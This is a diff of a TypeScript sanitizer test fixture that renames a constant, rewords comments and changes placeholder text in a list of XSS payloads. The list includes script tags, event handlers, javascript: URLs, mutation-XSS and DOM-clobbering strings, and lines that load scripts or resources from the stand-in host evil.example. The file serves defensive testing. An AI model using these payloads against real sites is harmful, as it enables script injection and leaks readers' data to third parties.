@@ -1,12 +1,12 @@
-/** The page's own address in these tests. */
-const HERE = location.origin
+/** Origin of the test page. */
+const ORIGIN = location.origin
 
 /**
- * Ways to run a script or to tell another site who reads, as HTML that a fetched page may contain. Each would call
- * `hit()`, ask `evil.example` or leave an element behind by which the page's own scripts are misled.
+ * HTML of a fetched page that tries to run a script (it calls `hit()`), to send a request to another site
+ * (`evil.example`), or to leave an element that misleads the page's own scripts.
  */
 export const XSS_VECTORS: readonly string[] = [
-  // Scripts and what loads them
+  // Scripts
   '<script>hit()</script>',
   '<script src="https://evil.example/x.js"></script>',
   '<SCRIPT type="module">hit()</SCRIPT>',
@@ -17,40 +17,40 @@ export const XSS_VECTORS: readonly string[] = [
   '<math><script>hit()</script></math>',
   '<template><script>hit()</script></template>',
   '<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>',
-  // Handlers
+  // Event handlers
   '<img src=x onerror=hit()>',
   '<img src=x OnErRoR="hit()">',
   '<img/src=x/onerror=hit()>',
   '<img src="x" onerror\n=\nhit()>',
-  '<p onclick="hit()" onmouseover="hit()" onpointerenter="hit()">Words</p>',
-  '<details open ontoggle=hit()><summary>Words</summary></details>',
-  '<div onanimationstart=hit() style="animation:tessera-fade-in 1s">Words</div>',
-  '<div onfocus=hit() tabindex=0 autofocus>Words</div>',
-  '<body onload=hit() onpageshow=hit()><p>Words</p></body>',
+  '<p onclick="hit()" onmouseover="hit()" onpointerenter="hit()">Text</p>',
+  '<details open ontoggle=hit()><summary>Text</summary></details>',
+  '<div onanimationstart=hit() style="animation:tessera-fade-in 1s">Text</div>',
+  '<div onfocus=hit() tabindex=0 autofocus>Text</div>',
+  '<body onload=hit() onpageshow=hit()><p>Text</p></body>',
   '<video onloadstart=hit() src=x><source onerror=hit() src=y></video>',
   '<audio src=x onerror=hit()></audio>',
   '<input autofocus onfocus=hit()>',
-  '<select onfocus=hit() autofocus><option>Words</option></select>',
-  '<marquee onstart=hit()>Words</marquee>',
+  '<select onfocus=hit() autofocus><option>Text</option></select>',
+  '<marquee onstart=hit()>Text</marquee>',
   '<svg onload=hit()></svg>',
   '<svg><animate onbegin=hit() attributeName=x dur=1s></svg>',
   '<svg><image href=x onerror=hit() /></svg>',
-  '<x-y onclick=hit()>Words</x-y>',
-  // Addresses that are scripts
-  '<a href="javascript:hit()">Words</a>',
-  '<a href=" \x01javascript:hit()">Words</a>',
-  '<a href="java\nscript:hit()">Words</a>',
-  '<a href="java&#9;script&colon;hit()">Words</a>',
-  '<a href="JaVaScRiPt:hit()">Words</a>',
-  '<a href="vbscript:hit()">Words</a>',
-  '<a href="data:text/html,<script>parent.hit()</script>">Words</a>',
-  '<a href="blob:https://evil.example/1">Words</a>',
-  '<a xlink:href="javascript:hit()">Words</a>',
-  '<svg><a href="javascript:hit()"><text>Words</text></a></svg>',
-  '<math><mtext href="javascript:hit()">Words</mtext></math>',
+  '<x-y onclick=hit()>Text</x-y>',
+  // Script URLs
+  '<a href="javascript:hit()">Text</a>',
+  '<a href=" \x01javascript:hit()">Text</a>',
+  '<a href="java\nscript:hit()">Text</a>',
+  '<a href="java&#9;script&colon;hit()">Text</a>',
+  '<a href="JaVaScRiPt:hit()">Text</a>',
+  '<a href="vbscript:hit()">Text</a>',
+  '<a href="data:text/html,<script>parent.hit()</script>">Text</a>',
+  '<a href="blob:https://evil.example/1">Text</a>',
+  '<a xlink:href="javascript:hit()">Text</a>',
+  '<svg><a href="javascript:hit()"><text>Text</text></a></svg>',
+  '<math><mtext href="javascript:hit()">Text</mtext></math>',
   '<area href="javascript:hit()"><map name=m><area href="javascript:hit()"></map>',
-  '<form action="javascript:hit()"><button>Words</button></form>',
-  '<button formaction="javascript:hit()" form=f>Words</button>',
+  '<form action="javascript:hit()"><button>Text</button></form>',
+  '<button formaction="javascript:hit()" form=f>Text</button>',
   '<iframe src="javascript:parent.hit()"></iframe>',
   '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
   '<object data="javascript:hit()"></object>',
@@ -59,16 +59,16 @@ export const XSS_VECTORS: readonly string[] = [
   '<frameset onload=hit()><frame src="javascript:parent.hit()"></frameset>',
   '<meta http-equiv=refresh content="0;javascript:hit()">',
   '<base href="https://evil.example/"><img src="x.png">',
-  // Other sites that learn who reads
+  // Requests to other sites
   '<img src="https://evil.example/x.png">',
   '<img src="//evil.example/x.png">',
   '<img src="\\\\evil.example\\x.png">',
   '<img srcset="https://evil.example/a.png 1x, //evil.example/b.png 2x">',
-  '<picture><source srcset="https://evil.example/a.avif"><img alt="Words"></picture>',
-  '<p style="background:url(https://evil.example/x.png)">Words</p>',
-  '<p style="--a:url(https://evil.example/x.png);--b:1">Words</p>',
-  '<p style="--a:1;} * { background: url(https://evil.example/x)">Words</p>',
-  '<style>@import "https://evil.example/x.css"; p { color: red }</style><p>Words</p>',
+  '<picture><source srcset="https://evil.example/a.avif"><img alt="Text"></picture>',
+  '<p style="background:url(https://evil.example/x.png)">Text</p>',
+  '<p style="--a:url(https://evil.example/x.png);--b:1">Text</p>',
+  '<p style="--a:1;} * { background: url(https://evil.example/x)">Text</p>',
+  '<style>@import "https://evil.example/x.css"; p { color: red }</style><p>Text</p>',
   '<link rel=stylesheet href="https://evil.example/x.css">',
   '<link rel=preload as=image href="https://evil.example/x.png"><link rel=dns-prefetch href="//evil.example">',
   '<iframe src="https://evil.example/"></iframe>',
@@ -79,12 +79,12 @@ export const XSS_VECTORS: readonly string[] = [
   '<video src="/slides/video.webm"><track default src="https://evil.example/x.vtt" onload=hit()></video>',
   '<video src="javascript:hit()"><track default src="data:text/vtt,WEBVTT" oncuechange=hit()></video>',
   '<input type=image src="https://evil.example/x.png">',
-  '<table background="https://evil.example/x.png"><tr><td background="https://evil.example/y.png">Words</table>',
-  '<body background="https://evil.example/x.png"><p>Words</p>',
-  '<a href="/articles/a" ping="https://evil.example/ping">Words</a>',
+  '<table background="https://evil.example/x.png"><tr><td background="https://evil.example/y.png">Text</table>',
+  '<body background="https://evil.example/x.png"><p>Text</p>',
+  '<a href="/articles/a" ping="https://evil.example/ping">Text</a>',
   '<svg><image href="https://evil.example/x.png"/><use href="https://evil.example/x.svg#a"/></svg>',
   '<svg><style>@import "https://evil.example/x.css"</style></svg>',
-  // Parsers that read differently the second time
+  // Mutation XSS: parsed differently the second time
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',
   '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>',
   '<svg></p><style><a id="</style><img src=1 onerror=hit()>">',
@@ -97,16 +97,16 @@ export const XSS_VECTORS: readonly string[] = [
   '<![CDATA[<img src=x onerror=hit()>]]>',
   '<?xml <img src=x onerror=hit()>?>',
   '<p title="&lt;img src=x onerror=hit()&gt;">&lt;img src=x onerror=hit()&gt;</p>',
-  // Names that the page's scripts would meet
-  '<img id=hit name=cookie><a id=location href="/x">Words</a>',
-  '<img name="querySelector"><img name="body"><p>Words</p>',
-  '<form><input name=localName><input name=childNodes><input name=attributes><p onclick=hit()>Words</form>',
-  '<form name=getElementById><input id=importNode></form><p>Words</p>',
+  // DOM clobbering and names that the page's scripts use
+  '<img id=hit name=cookie><a id=location href="/x">Text</a>',
+  '<img name="querySelector"><img name="body"><p>Text</p>',
+  '<form><input name=localName><input name=childNodes><input name=attributes><p onclick=hit()>Text</form>',
+  '<form name=getElementById><input id=importNode></form><p>Text</p>',
   '<a id=tessera></a><a id=tessera name=x href="javascript:hit()"></a>',
-  '<div data-gallery="work"><a data-zoom href="?">Words</a></div>',
-  '<a data-lightbox-link href="javascript:hit()">Words</a>',
-  '<dialog open data-lightbox><p>Words</p></dialog>',
-  '<slot name=x></slot><div slot=x is="x-y">Words</div>',
+  '<div data-gallery="work"><a data-zoom href="?">Text</a></div>',
+  '<a data-lightbox-link href="javascript:hit()">Text</a>',
+  '<dialog open data-lightbox><p>Text</p></dialog>',
+  '<slot name=x></slot><div slot=x is="x-y">Text</div>',
   '<div><template shadowrootmode=open><img src=x onerror=hit()></template></div>',
-  `<a href="${HERE}/x" target=_parent rel=opener>Words</a>`,
+  `<a href="${ORIGIN}/x" target=_parent rel=opener>Text</a>`,
 ]
